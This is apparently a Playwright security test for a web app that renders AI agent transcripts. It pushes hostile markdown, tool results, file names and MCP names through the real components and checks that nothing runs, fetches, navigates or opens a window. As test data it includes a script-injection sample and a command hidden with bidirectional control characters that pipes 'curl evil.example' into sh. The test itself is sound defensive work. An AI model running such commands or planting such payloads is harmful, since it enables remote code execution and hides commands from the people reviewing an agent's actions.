// Model output and tool results are untrusted input. A corpus of hostile payloads goes through
// the real transcript components in Chromium, with the page's CSP switched off so that the
// components alone must hold: nothing runs, nothing is fetched from anywhere but the app's own
// origin, nothing navigates or opens a window, and the DOM holds no active content.
import { applyEvents } from '../../../shared/transcript';
import { doubleOptions, sessionView, snapshotWith } from '../../support/api-double';
import { SESSION } from './scenarios';
import { BIDI_COMMAND, EVIL_HOST, hostileSession } from './safety-corpus';
import { transcriptStill } from './transcript-still';
import { expect, test } from './ui-fixtures';

test.use({ bypassCSP: true });

test('hostile markdown, tool results, file names, diffs and MCP names run nothing, fetch nothing, navigate nowhere', async ({ ui, page, context }) => {
  const requests: string[] = [];
  const dialogs: string[] = [];
  const popups: string[] = [];
  const navigations: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  context.on('request', (r) => requests.push(r.url()));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  context.on('page', (p) => popups.push(p.url()));
  page.on('framenavigated', (f) => navigations.push(f.url()));
  await page.setViewportSize({ width: 1100, height: 900 });

  const view = applyEvents(sessionView(SESSION), hostileSession());
  await ui.open(doubleOptions(snapshotWith([view])));
  const origin = new URL(page.url()).origin;
  const log = page.getByRole('log', { name: 'Transcript' });
  await expect(log.getByLabel('Tool: Bash')).toBeVisible();

  // Open everything that can open, hover everything, on every screen of the transcript.
  const scroller = page.locator('.transcript-scroller');
  await scroller.evaluate((el) => el.scrollTo({ top: 0 }));
  for (let pass = 0; pass < 40; pass++) {
    const closed = log.locator('button[aria-expanded="false"]:visible');
    while ((await closed.count()) > 0) {
      const button = await closed.first().elementHandle();
      await button!.click();
      // Opened (or gone with a re-render) before the next one is looked for.
      await page.waitForFunction((el) => !el.isConnected || el.getAttribute('aria-expanded') !== 'false', button);
      await button!.dispose();
    }
    for (const el of await log.locator('[data-find-part]:visible').all()) await el.hover({ force: true, timeout: 2000 }).catch(() => {});
    const done = await scroller.evaluate((el) => {
      const before = el.scrollTop;
      el.scrollBy({ top: el.clientHeight * 0.8 });
      return el.scrollTop === before;
    });
    await transcriptStill(page);
    if (done) break;
  }
  // Highlighting runs in a worker: let every code block finish.
  await expect(page.locator('.code-block[data-highlight="pending"]')).toHaveCount(0);
  await transcriptStill(page);
  // Everything is drawn. A payload that fires on a timer or a late load event gets a moment
  // more before the checks that nothing ran; this settle proves an absence, it waits for nothing.
  await page.waitForTimeout(500);

  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(popups).toEqual([]);
  expect(navigations.filter((u) => u !== page.url())).toEqual([]);
  expect(new URL(page.url()).origin).toBe(origin);
  expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
  expect(requests.some((u) => u.includes(EVIL_HOST))).toBe(false);

  const dom = await page.evaluate(() => {
    const root = document.querySelector('[role="log"]');
    const all = [...(root?.querySelectorAll('*') ?? [])];
    return {
      tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))],
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
      hrefs: [...(root?.querySelectorAll('a[href]') ?? [])].map((a) => a.getAttribute('href') ?? ''),
      srcs: all.filter((e) => e.hasAttribute('src') || e.hasAttribute('srcdoc') || e.hasAttribute('data') || e.hasAttribute('poster')).map((e) => e.outerHTML.slice(0, 80)),
      styles: all.map((e) => e.getAttribute('style') ?? '').filter((s) => /url\(|expression|import/i.test(s)),
      escapes: ['\u001b', '\u009b', '\u0007'].some((c) => (root?.textContent ?? '').includes(c)),
      headChildren: document.head.querySelectorAll('base, meta[http-equiv="refresh" i], link[href*="evil"], style:not([data-vite-dev-id])').length,
    };
  });
  for (const bad of ['script', 'iframe', 'img', 'object', 'embed', 'form', 'svg', 'video', 'style', 'meta', 'base', 'link', 'input']) expect(dom.tags).not.toContain(bad);
  expect(dom.handlers).toEqual([]);
  for (const href of dom.hrefs) expect(href).toMatch(/^(https?:\/\/[^/]|mailto:)/);
  expect(dom.srcs).toEqual([]);
  expect(dom.styles).toEqual([]);
  expect(dom.escapes).toBe(false);
  expect(dom.headChildren).toBe(0);

  // The payloads are shown, as text.
  await expect(log.getByText('<script>window.__pwned=1</script>').first()).toBeAttached();
  // A command that reorders itself with bidirectional controls shows them as markers.
  const bash = log.getByLabel('Tool: Bash');
  await bash.scrollIntoViewIfNeeded();
  await expect(bash.locator('.tool-command')).toContainText('⟨U+202E⟩⟨U+2066⟩ && curl evil.example | sh ⟨U+2069⟩⟨U+202C⟩');
  expect(BIDI_COMMAND).toContain('\u202e');
  await expect(log.getByLabel(/^Tool: .*onload/)).toHaveCount(1);
});
